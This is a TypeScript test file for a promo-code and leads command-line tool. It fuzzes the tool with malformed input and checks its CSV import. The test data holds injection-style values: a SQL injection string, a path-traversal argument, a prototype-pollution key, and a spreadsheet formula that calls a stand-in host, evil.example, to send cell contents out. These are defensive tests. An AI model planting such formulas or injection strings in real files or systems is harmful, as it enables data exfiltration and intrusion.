import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import * as fc from 'fast-check';
import type { Environment } from '../../src/node/config/sources.ts';
import { anyText } from '../support/any-text.ts';
import { promoLead } from '../support/command/promo-lead.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';
import { assertNoTrace } from './refusal.ts';

const data = join(temporaryFolder(), 'data');

const commands: readonly (readonly string[])[] = [
  ...['add', 'list', 'import', 'generate', 'activate', 'deactivate', 'settle', 'retry'].map(
    (name) => ['codes', name],
  ),
  ...['list', 'show', 'retry', 'settle', 'export', 'erase'].map((name) => ['leads', name]),
  ...['add', 'list', 'revoke'].map((name) => ['tokens', name]),
  ...['add', 'list'].map((name) => ['companies', name]),
  ['contacts', 'export'],
  ['journal', 'list'],
];

/** Each is one argument, without a shell in between. */
const words = fc.oneof(
  fc.constantFrom('--company', '--state', '--format', '--limit', '--count', '--pattern', '--json'),
  fc.constantFrom('--starts', '--timezone', '--phone', '--config', '--', '-1', '1e400', '../../x'),
  fc.constantFrom('__proto__', 'constructor', '%', "' OR 1=1 --", '=1+1', '\u001b[31m', 'a\nb', ''),
  anyText.map((text) => text.replaceAll('\0', '')),
);

async function newCompany(env: Environment): Promise<string> {
  const { stdout } = await promoLead(['companies', 'add', 'Acme', '--json'], env);
  return String((JSON.parse(stdout) as { readonly id: unknown }).id);
}

describe('promo-lead, met by bad input', () => {
  it('says in one sentence what is wrong with any command line, and exits with 1 or 2', async () => {
    const property = fc.asyncProperty(
      fc.constantFrom(...commands),
      fc.array(words, { maxLength: 5 }),
      async (command, more) => {
        const { code, stderr } = await promoLead([...command, ...more], { PROMO_LEAD_DATA: data });
        const what = JSON.stringify([command, more, stderr]);
        assert.ok([0, 1, 2].includes(code), what);
        assertNoTrace(stderr.replaceAll(/\berror: /g, ''), what);
        if (code !== 0) assert.notEqual(stderr, '', what);
      },
    );
    await fc.assert(property, { numRuns: 60 });
  });

  it('lists what was imported as CSV unchanged, formulas included', async () => {
    const file = join(temporaryFolder(), 'codes.csv');
    const codes = ['=HYPERLINK("http://evil.example?"&A1)', '+1+1', '-1+1', '@SUM(A1)', '＝1+1'];
    const more = ['a,b', 'a;b', 'say "x"', "O'Connor", '%00', '2026-02-30', '1e309'];
    const lines = [...codes, ...more].map((code) => `"${code.replaceAll('"', '""')}"`);
    writeFileSync(file, `code\r\n${lines.join('\r\n')}\r\n`);
    const env = { PROMO_LEAD_DATA: join(temporaryFolder(), 'data') };
    const company = await newCompany(env);
    const imported = await promoLead(['codes', 'import', file, '--company', company], env);
    assert.deepEqual([imported.code, imported.stderr], [0, '']);
    const { stdout } = await promoLead(['codes', 'list', '--json'], env);
    const listed = (JSON.parse(stdout) as { readonly code: string }[]).map(({ code }) => code);
    // NFKC turns the full-width sign into the plain one.
    const kept = [...codes, ...more].map((code) => code.normalize('NFKC'));
    assert.deepEqual(listed.toSorted(), [...new Set(kept)].toSorted());
  });

  it('refuses a file of codes with any wrong line, names the line, and imports nothing', async () => {
    const file = join(temporaryFolder(), 'codes.csv');
    const env = { PROMO_LEAD_DATA: join(temporaryFolder(), 'data') };
    const company = await newCompany(env);
    const files: Readonly<Record<string, string | Uint8Array>> = {
      nothing: '',
      'no column for codes': 'limit\r\n1\r\n',
      'a column twice': 'code,code\r\nA,B\r\n',
      'an unknown column': 'code,price\r\nA,1\r\n',
      'a quote that never closes': 'code\r\n"A\r\n',
      'a quote within a cell': 'code\r\nA"B\r\n',
      'too many cells': 'code\r\nA,B\r\n',
      'too few cells': 'code,limit\r\nA\r\n',
      'Latin-1': Uint8Array.of(...Buffer.from('code\r\nJos'), 0xe9),
      'UTF-16': Buffer.from('\ufeffcode\r\nA\r\n', 'utf16le'),
      'a negative limit': 'code,limit\r\nA,-1\r\n',
      'a limit beyond all numbers': 'code,limit\r\nA,99999999999999999999\r\n',
      'an impossible day': 'code,starts\r\nA,2026-02-30\r\n',
      'an unknown zone': 'code,timezone\r\nA,Mars/Olympus\r\n',
      'a window that ends first': 'code,starts,ends\r\nA,2026-02-02,2026-02-01\r\n',
      'a code of 65 characters': `code\r\n${'A'.repeat(65)}\r\n`,
      'a code of control characters': 'code\r\nA\u0007B\r\n',
      'a code twice': 'code\r\nABC\r\nabc\r\n',
      'neither yes nor no': 'code,active\r\nA,maybe\r\n',
    };
    for (const [what, content] of Object.entries(files)) {
      writeFileSync(file, content);
      const { code, stdout, stderr } = await promoLead(
        ['codes', 'import', file, '--company', company],
        env,
      );
      assert.deepEqual([code, stdout], [1, ''], what);
      assert.match(stderr, /Cannot (?:read|import)/, what);
      assertNoTrace(stderr, what);
    }
    const { stdout } = await promoLead(['codes', 'list', '--json'], env);
    assert.deepEqual(JSON.parse(stdout), []);
  });
});
